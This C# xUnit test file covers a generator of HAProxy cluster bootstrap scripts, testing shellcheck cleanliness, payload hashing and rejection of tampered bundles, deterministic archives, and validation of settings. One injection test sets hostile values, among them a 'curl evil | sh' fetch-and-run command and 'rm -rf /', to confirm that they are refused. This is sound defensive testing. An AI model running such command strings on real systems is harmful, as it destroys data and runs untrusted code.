using System.Text;
using HaproxyCluster.Config;
using HaproxyCluster.Node;

namespace HaproxyCluster.UserData.Tests;

public class BootstrapScriptTests
{
    private static readonly BootstrapSettings Settings = new()
    {
        StackName = "HaproxyCluster-dev",
        SignalResource = "NodesAsg1234ABCD",
        Region = "eu-west-1",
        Rules = new RulesSource { Application = "haproxy-cluster-dev", Environment = "dev", Profile = "rules" },
        Agent = new NodeAgentSettings
        {
            Uri = "s3://cdk-hnb659fds-assets-123456789012-eu-west-1/0123abcd",
            Sha256 = new string('a', 64),
            MetricsNamespace = "HaproxyCluster/dev",
            ServerStateFile = "/var/lib/haproxy/server-state",
        },
        LogGroupName = "/haproxy-cluster/dev",
        HealthPort = 8081,
        HealthPath = "/haproxy-health",
    };

    [Fact]
    public void Generated_script_passes_shellcheck_with_no_warning()
    {
        var script = BootstrapScript.Build(Settings);

        var (exitCode, output) = Shellcheck(script);

        Assert.True(exitCode == 0, output);
    }

    [Fact]
    public void Script_starts_with_bash_and_strict_mode_and_names_where_the_rules_come_from()
    {
        var script = BootstrapScript.Build(Settings);

        Assert.StartsWith("#!/bin/bash\n", script, StringComparison.Ordinal);
        Assert.Contains("\nset -euo pipefail\n", script, StringComparison.Ordinal);
        Assert.Contains("readonly RULES_URL='http://localhost:2772/applications/haproxy-cluster-dev/environments/dev/configurations/rules'\n", script, StringComparison.Ordinal);
        Assert.Contains("\nEnvironment=POLL_INTERVAL=15\n", script, StringComparison.Ordinal);
        Assert.Contains("trap on_exit EXIT", script, StringComparison.Ordinal);
    }

    [Fact]
    public void Rules_are_not_in_the_script_and_ten_thousand_hosts_fit_one_appconfig_version()
    {
        // GIVEN a routing table of 10 hosts and one of 10,000
        static BundleArchive Archive(int hosts) => (ConfigRenderer.Render(new HaproxySpec
        {
            Pools = [new Pool { Name = "web", Servers = [new Server("10.0.0.1", 80)] }],
            DefaultPool = "web",
            Routes = [Route.HostTable("tenants", [.. Enumerable.Range(0, hosts).Select(i => new TableEntry($"tenant{i}.example.com", "web"))])],
        })).Archive();
        var small = Archive(10);
        var large = Archive(10_000);

        // WHEN each becomes an AppConfig version
        var smallPayload = RulesPayload.Encode(small);
        var largePayload = RulesPayload.Encode(large);

        // THEN the user data names neither (one script for both, well under 16 KiB), the 10k table
        // compresses to a small share of AppConfig's limit, and each payload decodes to its archive
        Assert.InRange(Encoding.UTF8.GetByteCount(BootstrapScript.Build(Settings)), 1, BootstrapScript.MaxBytes);
        Assert.DoesNotContain(small.Sha256, BootstrapScript.Build(Settings), StringComparison.Ordinal);
        Assert.True(large.Bytes.Length > 200_000, $"the 10k archive is {large.Bytes.Length} bytes");
        Assert.InRange(Encoding.UTF8.GetByteCount(largePayload), 1, RulesPayload.MaxBytes / 10);
        Assert.Equal(large.Bytes, RulesPayload.Decode(largePayload).Archive);
        Assert.Equal(small.Sha256, RulesPayload.Decode(smallPayload).Sha256);
        Assert.Equal(largePayload, RulesPayload.Encode(large));
    }

    [Fact]
    public void A_payload_whose_bundle_does_not_match_its_hash_or_shape_is_refused_with_the_reason()
    {
        var archive = (ConfigRenderer.Render(new HaproxySpec
        {
            Pools = [new Pool { Name = "web", Servers = [new Server("10.0.0.1", 80)] }],
            DefaultPool = "web",
        })).Archive();
        var payload = RulesPayload.Encode(archive);

        var tampered = Assert.Throws<InvalidDataException>(() => RulesPayload.Decode(payload.Replace(archive.Sha256, new string('0', 64), StringComparison.Ordinal)));
        // Cut short, the bundle is refused either as broken base64 or gzip, or by its hash, by where the cut falls.
        Assert.Throws<InvalidDataException>(() => RulesPayload.Decode(payload[..(payload.Length / 2)] + "\"}"));
        var garbled = Assert.Throws<InvalidDataException>(() => RulesPayload.Decode($"{{\"sha256\":\"{archive.Sha256}\",\"bundle\":\"not base64!\"}}"));
        var shapeless = Assert.Throws<InvalidDataException>(() => RulesPayload.Decode("{\"sha256\":\"x\"}"));

        Assert.Contains($"has sha256 {archive.Sha256}, but the payload names {new string('0', 64)}", tampered.Message, StringComparison.Ordinal);
        Assert.Contains("not base64 of gzip", garbled.Message, StringComparison.Ordinal);
        Assert.Contains("lacks sha256 or bundle", shapeless.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Settings_cannot_inject_commands_and_every_bad_one_is_reported()
    {
        var hostile = Settings with
        {
            StackName = "dev'; curl evil | sh; '",
            Region = "eu-west-1\nrm -rf /",
            Rules = Settings.Rules with { Profile = "rules'\n/bin/sh" },
            Agent = Settings.Agent with { Sha256 = "not-a-hash" },
            HealthPort = 0,
            SyslogPort = 70000,
        };

        var error = Assert.Throws<ConfigValidationException>(() => BootstrapScript.Build(hostile));

        Assert.Equal(["StackName", "Region", "Rules.Profile", "Agent.Sha256", "HealthPort", "SyslogPort"], error.Errors.Select(e => e.Property));
    }

    [Fact]
    public void Bundle_archive_is_byte_identical_each_time_and_real_tar_extracts_every_file()
    {
        var bundle = ConfigRenderer.Render(new HaproxySpec
        {
            Pools = [new Pool { Name = "web", Servers = [new Server("10.0.0.1", 80)] }],
            DefaultPool = "web",
            Routes = [Route.PathPrefixTable("paths", new TableEntry("/docs", "web"))],
        });

        var first = bundle.Archive();
        var second = bundle.Archive();

        Assert.Equal(first.Bytes, second.Bytes);
        Assert.Equal(first.Sha256, second.Sha256);
        var folder = Directory.CreateTempSubdirectory("bundle-").FullName;
        try
        {
            var tar = Path.Combine(folder, "bundle.tar");
            File.WriteAllBytes(tar, first.Bytes);
            Directory.CreateDirectory(Path.Combine(folder, "out"));
            Assert.Equal(0, Command.Run("tar", "-xf", tar, "-C", Path.Combine(folder, "out")).ExitCode);
            foreach (var file in bundle.Files)
            {
                Assert.Equal(file.Content, File.ReadAllText(Path.Combine(folder, "out", file.Path)));
            }
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static (int ExitCode, string Output) Shellcheck(string script)
    {
        var path = Path.GetTempFileName();
        try
        {
            File.WriteAllText(path, script);
            return Command.Shellcheck(path);
        }
        finally
        {
            File.Delete(path);
        }
    }
}
